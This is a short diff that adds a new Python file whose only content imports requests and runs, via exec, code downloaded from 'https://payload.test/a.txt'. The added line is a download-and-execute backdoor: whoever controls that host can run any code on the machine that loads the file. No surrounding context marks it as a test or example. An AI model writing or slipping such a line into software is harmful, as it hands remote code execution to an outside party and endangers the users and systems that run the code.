@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://payload.test/a.txt").text)
